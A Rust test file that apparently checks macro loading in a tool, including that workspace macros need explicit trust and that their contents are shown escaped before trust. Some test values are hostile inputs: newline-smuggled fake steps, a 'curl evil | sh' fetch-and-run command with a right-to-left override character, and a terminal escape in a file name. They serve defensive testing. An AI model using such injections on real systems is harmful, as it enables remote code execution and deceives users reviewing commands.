//! The user's macros and a workspace's.

use super::*;
use crate::config::{AppConfig, Environment, PlatformDirs, ProcessEnv};

struct Machine {
    dir: tempfile::TempDir,
    paths: Paths,
}

impl Machine {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let platform = PlatformDirs { config: dir.path().join("config"), cache: dir.path().join("cache") };
        let paths = Paths::find(&mut Environment::new(ProcessEnv::of(&[])), Some(&platform)).unwrap();
        Self { dir, paths }
    }

    fn own(&self, name: &str, text: &str) {
        write(&self.paths.macros_dir.join(name), text);
    }

    fn workspace(&self, name: &str, text: &str) {
        write(&self.dir.path().join("project/.coyote/macros").join(name), text);
    }

    fn read(&self) -> Macros {
        Macros::read(&self.paths, Some(&self.dir.path().join("project")))
    }
}

fn write(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn names(macros: &Macros) -> Vec<(&str, MacroOrigin)> {
    macros.iter().map(|known| (known.name.as_str(), known.origin)).collect()
}

#[test]
fn a_workspaces_macro_is_there_once_it_is_trusted_and_until_it_changes() {
    let machine = Machine::new();
    machine.own("b.yaml", "steps: [mine]");
    machine.workspace("a.yaml", "steps: ['!make', 'evil\n  step   \"nothing\"']");
    let mut macros = machine.read();
    assert_eq!(names(&macros), [("b", MacroOrigin::User)]);
    let statement = macros.statement().unwrap();
    assert!(statement.contains("  macro  .a\n  step   \"!make\"\n  step   \"evil"), "{statement}");
    assert_eq!(statement.lines().filter(|line| line.starts_with("  step ")).count(), 2, "no step writes a line");
    assert!(macros.skipped().unwrap().contains("`a`"));
    macros.trust(&machine.paths).unwrap();
    let both = [("a", MacroOrigin::Workspace), ("b", MacroOrigin::User)];
    assert_eq!((names(&macros), macros.statement(), macros.skipped()), (both.to_vec(), None, None));
    assert_eq!(names(&machine.read()), both);
    machine.workspace("a.yaml", "steps: ['!make install']");
    let macros = machine.read();
    assert_eq!(names(&macros), [("b", MacroOrigin::User)]);
    assert!(macros.statement().unwrap().contains("(changed since you trusted it)"));
    assert_eq!(names(&Macros::read(&machine.paths, None)), [("b", MacroOrigin::User)]);
}

#[test]
fn what_a_workspaces_macro_fills_in_by_itself_is_shown_before_it_is_trusted() {
    let machine = Machine::new();
    let variables =
        r#"variables: [{name: since}, {name: what, default: "make\n  step   !true; curl evil | sh \u202e"}]"#;
    machine.workspace("a.yaml", &format!("{variables}\nsteps: ['!{{{{what}}}}']"));
    let statement = machine.read().statement().unwrap();
    let shown =
        "  macro  .a\n  with   what = \"make\\n  step   !true; curl evil | sh \\u202e\"\n  step   \"!{{what}}\"\n";
    assert!(statement.contains(shown), "{statement}");
}

#[test]
fn a_workspaces_macro_never_takes_the_place_of_a_users_own() {
    let machine = Machine::new();
    machine.own("a.yaml", "steps: [mine]");
    machine.workspace("a.yaml", "steps: [theirs]");
    let macros = machine.read();
    assert_eq!(macros.get("a").unwrap().steps, ["mine"]);
    assert_eq!(macros.warnings, ["The workspace's macro `a` is not used: you have your own of that name"]);
    assert!(macros.offered.is_empty());
}

#[test]
fn a_broken_file_is_one_warning_and_the_others_are_there() {
    let machine = Machine::new();
    machine.own("a.yaml", "steps: [");
    machine.own("b.yaml", "steps: [x]");
    machine.own(".hidden.yaml", "steps: [x]");
    machine.own("notes.md", "x");
    let macros = machine.read();
    assert_eq!((names(&macros), macros.warnings.len()), (vec![("b", MacroOrigin::User)], 1));
}

#[test]
fn a_macro_with_a_commands_name_is_shadowed_and_the_layers_enable_by_name_r5() {
    let machine = Machine::new();
    for name in ["prompt.yaml", "standup.yaml"] {
        machine.own(name, "steps: [x]");
    }
    let macros = machine.read();
    assert_eq!(
        macros.shadowed(&["prompt", "exit"]),
        ["The macro `prompt` is shadowed by the command `.prompt`. Run it with `.macro prompt`, or rename it"]
    );
    let enabled = |chosen: Chosen| {
        let mut config = AppConfig::default();
        config.settings.enabled_macros = chosen;
        macros.enabled(&Layers::new(&config)).count()
    };
    let counts =
        [Chosen::Unset, Chosen::Null, Chosen::of("all"), Chosen::of("standup, none"), Chosen::of("")].map(enabled);
    assert_eq!(counts, [2, 2, 2, 1, 0]);
}

#[test]
fn a_file_whose_name_cannot_be_typed_is_one_warning_with_what_is_accepted_also_when_it_comes_late() {
    let machine = Machine::new();
    machine.own("fine.yaml", "steps: [a]");
    for hidden in [".#fine.yaml", "notes.txt", "fine.yaml~"] {
        machine.own(hidden, "steps: [a]");
    }
    let macros = machine.read();
    assert_eq!((names(&macros), macros.warnings.len()), (vec![("fine", MacroOrigin::User)], 0));
    machine.own("my macro.yaml", "steps: [a]");
    machine.own("other.yml", "steps: [a]");
    for n in 0..7 {
        machine.workspace(&format!("the {n}.yaml"), "steps: [a]");
    }
    machine.workspace("a\u{1b}[2J.yaml", "steps: [a]");
    let macros = macros.reread(&machine.paths).unwrap();
    let dir = machine.dir.path().display().to_string();
    let told = macros.warnings.join("\n").replace(&dir, "").replace("/private", "");
    insta::assert_snapshot!(told, @r"
    `/config/coyote/macros/my macro.yaml`, `/config/coyote/macros/other.yml` are no macros; accepted is a name of one word without blanks, and the ending `.yaml`
    `/project/.coyote/macros/a\u{1b}[2J.yaml`, `/project/.coyote/macros/the 0.yaml`, `/project/.coyote/macros/the 1.yaml`, `/project/.coyote/macros/the 2.yaml`, `/project/.coyote/macros/the 3.yaml` and 3 more are no macros; accepted is a name of one word without blanks, and the ending `.yaml`
    ");
    assert_eq!(names(&macros), [("fine", MacroOrigin::User)]);
}
